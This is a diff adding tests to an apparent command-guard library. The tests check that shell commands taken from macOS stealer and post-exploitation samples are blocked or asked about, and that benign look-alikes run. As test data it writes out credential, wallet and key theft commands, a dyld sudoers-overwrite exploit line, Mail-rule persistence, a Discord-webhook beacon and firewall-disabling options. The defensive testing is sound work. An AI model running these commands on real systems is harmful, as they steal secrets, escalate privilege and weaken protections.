@@ -585,3 +585,180 @@ def test_a_program_name_is_read_whatever_its_case(name: str, data: st.DataObject
 def test_rm_rf_home_is_blocked_in_every_case(upper: list[bool]) -> None:
     name = "".join(c.upper() if up else c for c, up in zip("rm", upper, strict=True))
     assert verdict_of(f"{name} -rf ~")[0] == "block"
+
+
+# -- held-out macOS sample 9 (a ClickFix stealer, Empire, EvilOSX, Rubber Ducky payloads) ------------
+
+AS = "/Users/dev/Library/Application Support"
+
+
+@pytest.mark.parametrize(
+    ("command", "category"),
+    [
+        # the stealer checks that the password its fake dialog got is the login's
+        ("dscl . authonly 'dev' 'hunter2'", CREDENTIALS),
+        ("dscl /Local/Default -authonly dev ''", CREDENTIALS),
+        # preferences searched for a token an app keeps there
+        ("defaults find access_token", CREDENTIALS),
+        ("defaults find refresh_token", CREDENTIALS),
+        ("defaults read | grep -i token", CREDENTIALS),
+        ('defaults read com.tinyspeck.slackmacgap | grep -iE "password|secret"', CREDENTIALS),
+        ("defaults export com.example.app - | rg -i api_key", CREDENTIALS),
+        # dyld opens the file DYLD_PRINT_TO_FILE names before a setuid program runs (CVE-2015-3760)
+        (
+            """echo 'echo "$(whoami) ALL=(ALL) NOPASSWD:ALL" >&3' | DYLD_PRINT_TO_FILE=/etc/sudoers newgrp""",
+            "system file corruption",
+        ),
+        # Mail's rules (a rule may run an AppleScript when a mail arrives), local and iCloud copies
+        (
+            "/usr/libexec/PlistBuddy -c 'Merge /tmp/r.plist' "
+            "/Users/dev/Library/Mobile\\ Documents/com~apple~mail/Data/V10/MailData/"
+            "ubiquitous_SyncedRules.plist",
+            STEALTH_PERSISTENCE,
+        ),
+        ("cp /tmp/r.plist ~/Library/Mail/V9/MailData/RulesActiveState.plist", STEALTH_PERSISTENCE),
+        # a desktop wallet's or exchange app's store, the iCloud account's tokens
+        (f"cat '{AS}/Binance/app-store.json' > /tmp/s/app-store.json", CREDENTIALS),
+        (f"cp -r '{AS}/Ledger Live' /tmp/s/", CREDENTIALS),
+        ("cp -r ~/.walletwasabi/client/Wallets /tmp/s/", CREDENTIALS),
+        (f"openssl enc -d -aes-128-cbc -iv '' -K 3f2b < '{AS}/iCloud/Accounts/1234567890'", CREDENTIALS),
+        # the shell's history copied away; files hunted for private keys; mail searched for passwords
+        ("history > /Volumes/DUCKY/history.txt", CREDENTIALS),
+        ("history >> /tmp/.h", CREDENTIALS),
+        ('grep -rl "PRIVATE KEY" Desktop', CREDENTIALS),
+        ("grep -R -- '-----BEGIN' .", CREDENTIALS),
+        ("find /Users/ -name *.emlx 2>/dev/null|xargs grep -i 'password'", CREDENTIALS),
+        ("find ~ -type f | xargs -0 rg -l api_key", CREDENTIALS),
+    ],
+)
+def test_sample_9_attacks_are_blocked(command: str, category: str) -> None:
+    assert verdict_of(command) == ("block", category)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # host data posted to a chat API: a stealer's beacon, or a build's notice (asked)
+        'curl -X POST --data-urlencode "content=User:$name | $mac" https://discord.com/api/webhooks/1/AbC',
+        'curl -d "{\\"text\\": \\"build $BUILD_ID failed\\"}" https://hooks.slack.com/services/T0/B0/x',
+        # a copied shell, case and all, run from a hidden name in /tmp
+        "/tmp/.com.apple.launchd.rWGGYVvlyx -p -c id",
+        # a launchd job written by dyld's log (scheduled tasks are asked)
+        "DYLD_PRINT_TO_FILE=/Library/LaunchDaemons/x.plist newgrp",
+    ],
+)
+def test_sample_9_dual_use_is_asked(command: str) -> None:
+    assert verdict_of(command)[0] == "ask"
+    assert verdict_of(command, Policy(profile="unattended"))[0] == "block"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "dscl . -read /Users/dev RealName",
+        "defaults find EmailAddress",
+        "defaults read com.apple.dock | grep autohide",
+        "defaults read -g AppleInterfaceStyle",
+        "DYLD_PRINT_TO_FILE=/tmp/dyld.log ./build/app",
+        "history | grep ssh",
+        "history > /dev/null",
+        "grep -rn private_key src/",
+        "grep -rn 'BEGIN CERTIFICATE' certs/ --include=*.md",
+        'grep -r -- "-----BEGIN CERTIFICATE" certs/',
+        "find ~/src/app -name '*.py' | xargs grep -l api_key",
+        "find . -name '*.py' | xargs grep -n password",
+        "find ~/Library/Mail -name '*.emlx' | wc -l",
+        f"ls '{AS}/Binance'",
+        "curl -s -X POST https://api.telegram.org/bot$TOKEN/sendMessage -d chat_id=$CHAT -d text='passed'",
+        'curl -d \'{"text": "deploy done"}\' https://hooks.slack.com/services/T0/B0/x',
+        "/tmp/build/bin/app -p 8080",
+    ],
+)
+def test_sample_9_neighbours_run(command: str) -> None:
+    assert verdict_of(command) == ("allow", None)
+
+
+def test_a_policy_decides_the_sample_9_findings() -> None:
+    assert verdict_of("defaults find access_token", Policy(verdicts={CREDENTIALS: "ask"})) == (
+        "ask",
+        CREDENTIALS,
+    )
+    assert verdict_of("dscl . authonly dev pw", Policy(verdicts={CREDENTIALS: "allow"})) == ("allow", None)
+    beacon = 'curl --data-urlencode "content=$(hostname)" https://discord.com/api/webhooks/1/A'
+    assert verdict_of(beacon)[0] == "block"  # command output sent: exfiltration's own rule
+    posted = 'curl --data-urlencode "content=$host" https://discord.com/api/webhooks/1/A'
+    assert verdict_of(posted, Policy(verdicts={"file upload": "block"}))[0] == "block"
+
+
+FIREWALL = "/usr/libexec/ApplicationFirewall/socketfilterfw"
+_FIREWALL_OFF = ("off", "0", "false", "no", "disabled", "OFF")
+_FIREWALL_ON = ("on", "1", "true", "yes", "throttled")
+
+
+@pytest.mark.parametrize(
+    ("arguments", "held"),
+    [
+        *[
+            ((switch, value), True)
+            for switch in ("--setglobalstate", "--setblockall", "--setstealthmode", "--setloggingmode")
+            for value in _FIREWALL_OFF
+        ],
+        *[
+            ((switch, value), False)
+            for switch in (
+                "--setglobalstate",
+                "--setblockall",
+                "--setstealthmode",
+                "--setloggingmode",
+                "--setloggingopt",
+            )
+            for value in _FIREWALL_ON
+        ],
+        *[((trust, "on"), True) for trust in ("--setallowsigned", "--setallowsignedapp")],
+        *[
+            ((trust, value), False)
+            for trust in ("--setallowsigned", "--setallowsignedapp")
+            for value in ("off", "1", "yes", "disabled")
+        ],
+        *[
+            ((rule, "/Applications/LuLu.app"), True)
+            for rule in ("--add", "--unblockapp", "--unblock", "--blockapp", "--remove")
+        ],
+        *[
+            ((read, "/Applications/Uninstaller.app"), False)
+            for read in (
+                "--listapps",
+                "--getglobalstate",
+                "--getappblocked",
+                "--getstealthmode",
+                "--version",
+                "-h",
+            )
+        ],
+        (("--setglobalstate", "on", "--add", "/tmp/x"), True),
+        # the programs it is given are read, never written: the operand rule leaves them alone
+        (("--getappblocked", "/etc/hosts"), False),
+        (("--listapps", "/usr/sbin/sshd"), False),
+        (("--add", "/etc/hosts"), True),
+    ],
+)
+def test_the_application_firewall_is_judged_in_one_place(arguments: tuple[str, ...], held: bool) -> None:
+    """socketfilterfw's options: the same verdicts as before, all from the macos family's one check
+    (impairment's firewall and agent-uninstaller rules leave the program to it)."""
+    command = " ".join((FIREWALL, *arguments))
+    verdict = check_command(command, home=HOME)
+    if not held:
+        assert verdict is None
+        return
+    assert verdict is not None
+    assert (verdict.decision, verdict.category, verdict.rule) == (
+        "block",
+        IMPAIR,
+        "macos rule",
+    )
+    from agentbus.guards.parse import parse
+    from agentbus.guards.programs import walk
+    from agentbus.guards.tactics import impairment
+
+    invocation = next(iter(walk(parse(command))))[0]
+    assert impairment.judge(invocation, HOME) is None
